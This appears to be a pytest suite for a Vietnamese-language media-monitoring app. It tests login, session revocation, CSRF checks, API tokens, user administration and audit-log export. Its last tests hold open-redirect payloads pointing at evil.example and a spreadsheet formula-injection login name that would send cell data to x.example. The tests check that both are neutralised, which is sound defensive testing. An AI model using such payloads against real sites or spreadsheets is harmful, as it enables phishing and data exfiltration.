"""Login, sessions, CSRF, personal tokens and user administration over real loopback HTTP."""

from __future__ import annotations

import csv
import io
import json
import re
from base64 import b64encode
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import httpx
import pytest
from itsdangerous import TimestampSigner

from api.app import create_app
from mediawatch.audit import AuditLog
from mediawatch.model import utc_now
from tests.conftest import (
    ADMIN_PASSWORD,
    ADMIN_TOKEN,
    ANALYST_TOKEN,
    API_TOKEN,
    OTHER_TOKEN,
    VIEWER_TOKEN,
    LiveServer,
    login,
)

MAX_FAILED = 3


@pytest.fixture
def server(settings, store) -> Iterator[LiveServer]:
    settings.security.max_failed_logins = MAX_FAILED
    app = create_app(settings, store)
    with LiveServer(app) as live:
        live.app = app
        yield live


@pytest.fixture
def audit_log(settings) -> AuditLog:
    return AuditLog(settings.audit_path)


def client(server: LiveServer, token: str | None = None) -> httpx.Client:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    return httpx.Client(base_url=server.url, headers=headers, timeout=30)


def csrf_of(page: httpx.Response) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)


def error_of(page: httpx.Response) -> str:
    return re.search(r'<p class="error" role="alert">([^<]*)</p>', page.text).group(1)


def test_login_starts_a_fresh_session_and_is_audited(server, audit_log):
    with client(server) as browser:
        before = csrf_of(browser.get("/login"))
        assert login(browser, "reviewer1", ADMIN_PASSWORD).status_code == 303
        after = csrf_of(browser.get("/"))
        assert after != before  # nothing carried over from the anonymous session
        assert browser.post("/logout", data={"csrf": after}).status_code == 303
        assert browser.get("/").status_code == 303
    entries = [(e.actor, e.action, e.role) for e in audit_log.entries()]
    assert entries == [
        ("reviewer1", "login.ok", "reviewer"),
        ("reviewer1", "logout", "reviewer"),
    ]


def test_a_copy_of_the_cookie_is_refused_after_logout(server):
    """Logging out ends the session on the server: a cookie copied before it (a shared
    computer, a stolen cookie) no longer opens pages or the API; other logins go on."""
    with client(server) as browser, client(server) as other_device:
        assert login(browser, "reviewer1", ADMIN_PASSWORD).status_code == 303
        assert login(other_device, "reviewer1", ADMIN_PASSWORD).status_code == 303
        copy = browser.cookies["mediawatch_session"]
        csrf = csrf_of(browser.get("/"))
        assert browser.post("/logout", data={"csrf": csrf}).status_code == 303
        assert other_device.get("/").status_code == 200
    with client(server) as thief:
        thief.cookies.set("mediawatch_session", copy)
        page = thief.get("/")
        assert page.status_code == 303 and page.headers["location"].startswith("/login")
        assert thief.get("/api/items").status_code == 401


def test_every_failure_says_the_same_and_the_log_says_why(server, audit_log):
    with client(server, ADMIN_TOKEN) as admin:
        assert admin.patch("/api/users/viewer1", json={"disabled": True}).status_code == 200
    with client(server) as browser:
        unknown = login(browser, "khong-co-ai", ADMIN_PASSWORD)
        wrong = [login(browser, "reviewer2", "sai-mat-khau-roi") for _ in range(MAX_FAILED)]
        locked = login(browser, "reviewer2", ADMIN_PASSWORD)
        disabled = login(browser, "viewer1", ADMIN_PASSWORD)
    responses = [unknown, *wrong, locked, disabled]
    assert {r.status_code for r in responses} == {401}
    assert len({error_of(r) for r in responses}) == 1
    reasons = [(e.actor, e.detail["reason"]) for e in audit_log.entries(action="login.failed")]
    assert reasons == [
        ("khong-co-ai", "unknown_user"),
        *[("reviewer2", "bad_password")] * MAX_FAILED,
        ("reviewer2", "locked"),
        ("viewer1", "disabled"),
    ]
    assert [e.actor for e in audit_log.entries(action="login.locked")] == ["reviewer2"]


def test_a_lock_ends_after_its_window(server):
    with client(server) as browser:
        for _ in range(MAX_FAILED):
            login(browser, "reviewer2", "sai-mat-khau-roi")
        assert login(browser, "reviewer2", ADMIN_PASSWORD).status_code == 401
        accounts = server.app.state.accounts
        later = utc_now() + timedelta(minutes=accounts.lockout.total_seconds() / 60 + 1)
        accounts.clock = lambda: later
        assert login(browser, "reviewer2", ADMIN_PASSWORD).status_code == 303


def test_forms_refuse_a_missing_or_wrong_csrf_field(server):
    with client(server) as browser:
        browser.get("/login")
        refused = browser.post(
            "/login", data={"username": "admin", "password": ADMIN_PASSWORD, "csrf": "x"}
        )
        assert refused.status_code == 403
        login(browser, "admin", ADMIN_PASSWORD)
        forged = browser.post("/account/tokens", data={"label": "x", "csrf": "forged"})
        assert forged.status_code == 403
        forged = browser.post(
            "/admin/users", data={"username": "mallory", "role": "admin", "csrf": "forged"}
        )
        assert forged.status_code == 403
    with client(server, ADMIN_TOKEN) as admin:
        assert "mallory" not in {u["username"] for u in admin.get("/api/users").json()}


def test_session_json_writes_need_the_csrf_header(server):
    with client(server) as browser:
        login(browser, "reviewer1", ADMIN_PASSWORD)
        assert browser.get("/api/tokens").status_code == 200  # reads need no header
        refused = browser.post("/api/tokens", json={"label": "from the page"})
        assert refused.status_code == 403 and "CSRF" in refused.json()["detail"]
        csrf = csrf_of(browser.get("/account"))
        made = browser.post(
            "/api/tokens", json={"label": "from the page"}, headers={"X-CSRF-Token": csrf}
        )
        assert made.status_code == 201


def test_personal_token_create_use_revoke(server, audit_log):
    with client(server) as browser, client(server, API_TOKEN) as reviewer:
        login(browser, "reviewer1", ADMIN_PASSWORD)
        csrf = {"X-CSRF-Token": csrf_of(browser.get("/account"))}
        made = browser.post("/api/tokens", json={"label": "báo cáo tuần"}, headers=csrf)
        assert made.status_code == 201
        token_id, secret = made.json()["token"]["id"], made.json()["secret"]
        listed = reviewer.get("/api/tokens").json()
        assert token_id in {t["id"] for t in listed}
        assert secret not in json.dumps(listed)  # shown once, never again
        with client(server, secret) as script:
            assert script.get("/api/review/queue").status_code == 200
            with client(server, ADMIN_TOKEN) as admin:  # not the admin's own token
                assert admin.delete(f"/api/tokens/{token_id}").status_code == 404
            assert reviewer.delete(f"/api/tokens/{token_id}").status_code == 200
            assert script.get("/api/review/queue").status_code == 401
    created = audit_log.entries(action="token.create")
    revoked = audit_log.entries(action="token.revoke")
    assert [(e.actor, e.detail["id"]) for e in created] == [("reviewer1", token_id)]
    assert [(e.actor, e.target, e.detail["id"]) for e in revoked] == [
        ("reviewer1", "reviewer1", token_id)
    ]


def test_a_token_cannot_mint_tokens(server, audit_log):
    with client(server, API_TOKEN) as script:
        refused = script.post("/api/tokens", json={"label": "một token nữa"})
        assert refused.status_code == 403
        assert "phiên đăng nhập" in refused.json()["detail"]
        assert len(script.get("/api/tokens").json()) == 1  # only the one it came with
    assert audit_log.entries(action="token.create") == []


def test_admin_revokes_someone_elses_token(server):
    with client(server, ADMIN_TOKEN) as admin:
        (token,) = admin.get("/api/users/analyst1/tokens").json()
        assert admin.delete(f"/api/users/analyst1/tokens/{token['id']}").status_code == 200
        assert admin.delete("/api/users/analyst1/tokens/nope").status_code == 404
    with client(server, ANALYST_TOKEN) as analyst:
        assert analyst.get("/api/items").status_code == 401


def test_disabled_user_loses_session_and_tokens_at_once(server):
    with client(server) as browser, client(server, API_TOKEN) as script:
        login(browser, "reviewer1", ADMIN_PASSWORD)
        assert browser.get("/").status_code == 200
        assert script.get("/api/items").status_code == 200
        with client(server, ADMIN_TOKEN) as admin:
            assert admin.patch("/api/users/reviewer1", json={"disabled": True}).status_code == 200
        gone = browser.get("/")
        assert gone.status_code == 303 and gone.headers["location"].startswith("/login")
        assert script.get("/api/items").status_code == 401
        with client(server, ADMIN_TOKEN) as admin:
            admin.patch("/api/users/reviewer1", json={"disabled": False})
        assert script.get("/api/items").status_code == 200  # tokens return with the account
        assert browser.get("/").status_code == 303  # the session does not


def test_role_change_applies_at_once(server):
    with client(server) as browser, client(server, VIEWER_TOKEN) as script:
        login(browser, "viewer1", ADMIN_PASSWORD)
        refused = browser.get("/search")
        assert refused.status_code == 403 and "Không có quyền" in refused.text
        assert script.get("/api/items").status_code == 403
        with client(server, ADMIN_TOKEN) as admin:
            changed = admin.patch("/api/users/viewer1", json={"role": "analyst"})
            assert changed.json()["role"] == "analyst"
        assert script.get("/api/items").status_code == 200
        assert browser.get("/search").status_code == 303  # old session ended: log in again
        login(browser, "viewer1", ADMIN_PASSWORD)
        assert browser.get("/search").status_code == 200


def test_admin_adds_and_resets_users(server, audit_log):
    with client(server, ADMIN_TOKEN) as admin:
        weak = admin.post(
            "/api/users", json={"username": "canbo9", "role": "viewer", "password": "changeme"}
        )
        assert weak.status_code == 422 and "Mật khẩu" in weak.json()["detail"]
        made = admin.post("/api/users", json={"username": "canbo9", "role": "reviewer"})
        assert made.status_code == 201
        first = made.json()["password"]
        assert (
            admin.post("/api/users", json={"username": "canbo9", "role": "viewer"}).status_code
            == 409
        )
        reset = admin.post("/api/users/canbo9/reset")
        assert reset.status_code == 200
        second = reset.json()["password"]
        assert admin.post("/api/users/nobody/reset").status_code == 404
        assert admin.patch("/api/users/admin", json={"disabled": True}).status_code == 409
        assert admin.patch("/api/users/admin", json={"role": "viewer"}).status_code == 409
    with client(server) as browser:
        assert login(browser, "canbo9", first).status_code == 401
        assert login(browser, "canbo9", second).status_code == 303
    assert [(e.action, e.target) for e in audit_log.entries(action="user.")] == [
        ("user.add", "canbo9"),
        ("user.reset", "canbo9"),
    ]


def test_reset_revokes_the_users_tokens_and_says_so(server, audit_log):
    with client(server, ADMIN_TOKEN) as admin, client(server, OTHER_TOKEN) as script:
        assert script.get("/api/items").status_code == 200
        reset = admin.post("/api/users/reviewer2/reset")
        assert reset.status_code == 200 and reset.json()["revoked_tokens"] == 1
        assert script.get("/api/items").status_code == 401
        assert admin.post("/api/users/reviewer2/reset").json()["revoked_tokens"] == 0
    with client(server) as browser:
        login(browser, "admin", ADMIN_PASSWORD)
        csrf = csrf_of(browser.get("/admin/users"))
        page = browser.post("/admin/users/reviewer1/reset", data={"csrf": csrf})
        assert page.status_code == 200 and "Đã thu hồi 1 API token của reviewer1" in page.text
    with client(server, API_TOKEN) as script:
        assert script.get("/api/items").status_code == 401
    revoked = [(e.target, e.detail["revoked_tokens"]) for e in audit_log.entries(action="user.")]
    assert revoked == [("reviewer2", 1), ("reviewer2", 0), ("reviewer1", 1)]


def signed_session(server: LiveServer, **session: object) -> httpx.Client:
    """A browser holding a session cookie signed as the app signs them."""
    secret = server.app.state.settings.session_secret.get_secret_value()
    cookie = TimestampSigner(secret).sign(b64encode(json.dumps(session).encode())).decode()
    browser = client(server)
    browser.cookies.set("mediawatch_session", cookie)
    return browser


def test_a_session_without_an_epoch_is_logged_out(server):
    sid = server.app.state.accounts.open_session("reviewer1")
    current = {"user": "reviewer1", "role": "reviewer", "csrf": "c", "sid": sid}
    with signed_session(server, **current, epoch=0) as browser:  # the signing is right
        assert browser.get("/").status_code == 200
    with signed_session(server, **current) as browser:  # from before sessions had epochs
        assert browser.get("/api/items").status_code == 401
        gone = browser.get("/")
        assert gone.status_code == 303 and gone.headers["location"].startswith("/login")


def test_wrong_current_passwords_on_the_account_page_lock_and_are_audited(server, audit_log):
    with client(server) as browser, client(server) as other:
        login(browser, "analyst1", ADMIN_PASSWORD)
        csrf = csrf_of(browser.get("/account"))
        form = {"current": "sai-mat-khau-roi", "new": "mot-mat-khau-moi-hon", "csrf": csrf}
        wrong = [browser.post("/account/password", data=form) for _ in range(MAX_FAILED)]
        assert [r.status_code for r in wrong] == [422] * MAX_FAILED
        assert "không đúng" in error_of(wrong[0]) and "tạm khóa" in error_of(wrong[-1])
        right = browser.post("/account/password", data=form | {"current": ADMIN_PASSWORD})
        assert right.status_code == 422 and "tạm khóa" in error_of(right)
        assert login(other, "analyst1", ADMIN_PASSWORD).status_code == 401  # locked there too
    failed = audit_log.entries(action="password.change.failed")
    assert [(e.actor, e.detail["reason"], e.detail["locked_now"]) for e in failed] == [
        *[("analyst1", "bad_password", False)] * (MAX_FAILED - 1),
        ("analyst1", "bad_password", True),
        ("analyst1", "locked", False),
    ]
    assert audit_log.entries(action="password.change") == []


def test_account_page_password_change_and_tokens(server, audit_log):
    with client(server) as browser:
        login(browser, "analyst1", ADMIN_PASSWORD)
        page = browser.get("/account")
        assert page.status_code == 200 and "analyst1" in page.text
        created = browser.post("/account/tokens", data={"label": "excel", "csrf": csrf_of(page)})
        assert created.status_code == 201
        secret = re.search(r'<code class="token-secret">([^<]+)</code>', created.text).group(1)
        again = browser.get("/account")
        assert secret not in again.text
        with client(server, secret) as script:
            assert script.get("/api/items").status_code == 200
        token_id = secret.split("_")[1]
        revoked = browser.post(f"/account/tokens/{token_id}/revoke", data={"csrf": csrf_of(again)})
        assert revoked.status_code == 303
        with client(server, secret) as script:
            assert script.get("/api/items").status_code == 401
        weak = browser.post(
            "/account/password",
            data={"current": ADMIN_PASSWORD, "new": "short", "csrf": csrf_of(again)},
        )
        assert weak.status_code == 422
        changed = browser.post(
            "/account/password",
            data={"current": ADMIN_PASSWORD, "new": "mot-mat-khau-moi-hon", "csrf": csrf_of(again)},
        )
        assert changed.status_code == 303
        assert browser.get("/account").status_code == 303  # logged out everywhere
        assert login(browser, "analyst1", "mot-mat-khau-moi-hon").status_code == 303
    assert len(audit_log.entries(action="password.change")) == 1


def test_admin_pages_manage_users_and_read_the_log(server, audit_log):
    with client(server) as browser:
        login(browser, "admin", ADMIN_PASSWORD)
        page = browser.get("/admin/users")
        assert page.status_code == 200 and "reviewer2" in page.text
        added = browser.post(
            "/admin/users",
            data={"username": "canbo7", "role": "analyst", "email": "", "csrf": csrf_of(page)},
        )
        assert added.status_code == 201
        password = re.search(r'<code class="new-password">([^<]+)</code>', added.text).group(1)
        updated = browser.post(
            "/admin/users/canbo7",
            data={"role": "reviewer", "display_name": "Trần Thị B", "csrf": csrf_of(page)},
        )
        assert updated.status_code == 303
        listed = browser.get("/admin/users").text
        assert "Trần Thị B" in listed
        log_page = browser.get("/admin/audit", params={"action": "user."})
        assert log_page.status_code == 200
        assert "user.add" in log_page.text and "user.update" in log_page.text
        assert "login.ok" not in log_page.text
    with client(server) as browser:
        assert login(browser, "canbo7", password).status_code == 303


def test_audit_log_read_and_export_for_admins_only(server, audit_log):
    with client(server) as browser:
        login(browser, "reviewer1", "sai-mat-khau-roi")
        login(browser, "reviewer1", ADMIN_PASSWORD)
    with client(server, ADMIN_TOKEN) as admin:
        page = admin.get("/api/audit", params={"action": "login.", "limit": 1, "offset": 1})
        assert page.status_code == 200
        assert page.json()["total"] == 2
        assert [e["action"] for e in page.json()["entries"]] == ["login.ok"]
        naive = admin.get("/api/audit", params={"since": "2000-01-01T00:00:00"})
        assert naive.status_code == 200
        exported = admin.get("/api/audit/export", params={"format": "csv", "actor": "reviewer1"})
        assert exported.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(exported.text)))
        assert [r["action"] for r in rows] == ["login.failed", "login.ok"]
        assert json.loads(rows[0]["detail"]) == {"reason": "bad_password"}
        lines = admin.get("/api/audit/export", params={"format": "jsonl", "action": "login."})
        assert [json.loads(line)["action"] for line in lines.text.splitlines()] == [
            "login.failed",
            "login.ok",
        ]
        assert admin.get("/api/audit/export", params={"format": "xml"}).status_code == 422
    with client(server, ANALYST_TOKEN) as analyst:
        assert analyst.get("/api/audit").status_code == 403
        assert analyst.get("/api/audit/export").status_code == 403
    exports = audit_log.entries(action="audit.export")
    assert [(e.actor, e.detail["format"]) for e in exports] == [
        ("admin", "csv"),
        ("admin", "jsonl"),
    ]


def test_audit_times_without_a_zone_are_utc_in_the_api_and_local_on_the_page(server, audit_log):
    at = datetime(2026, 1, 1, 0, 30, tzinfo=UTC)  # 07:30 in Lâm Đồng
    audit_log.record("reviewer1", "search", via="token", at=at, detail={"q": "đất đai"})
    with client(server, ADMIN_TOKEN) as admin:
        api = admin.get("/api/audit", params={"action": "search", "since": "2026-01-01T07:00"})
        assert api.json()["total"] == 0
    with client(server) as browser:
        login(browser, "admin", ADMIN_PASSWORD)
        seen = browser.get("/admin/audit", params={"action": "search", "since": "2026-01-01T07:00"})
        assert "q: đất đai" in seen.text
        later = browser.get(
            "/admin/audit", params={"action": "search", "since": "2026-01-01T08:00"}
        )
        assert "q: đất đai" not in later.text


@pytest.mark.parametrize(
    ("asked", "sent_to"),
    [
        ("/items/x?q=dat", "/items/x?q=dat"),
        ("//evil.example/", "/"),
        ("/\\evil.example/", "/"),
        ("https://evil.example/", "/"),
    ],
)
def test_after_login_only_a_path_of_this_site_is_followed(live_api, asked, sent_to):
    with httpx.Client(base_url=live_api.url) as browser:
        csrf = re.search(r'name="csrf" value="([^"]+)"', browser.get("/login").text).group(1)
        response = browser.post(
            "/login",
            data={"username": "reviewer1", "password": ADMIN_PASSWORD, "csrf": csrf, "next": asked},
        )
    assert response.status_code == 303
    assert response.headers["location"] == sent_to


def test_a_login_name_written_as_a_formula_is_exported_as_text(server):
    with client(server) as browser:
        login(browser, '=HYPERLINK("http://x.example/?"&A1,"xem")', "bat-ky-mat-khau")
    with client(server, ADMIN_TOKEN) as admin:
        exported = admin.get("/api/audit/export", params={"format": "csv", "action": "login."})
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [r["actor"] for r in rows] == ['\'=HYPERLINK("http://x.example/?"&A1,"xem")']
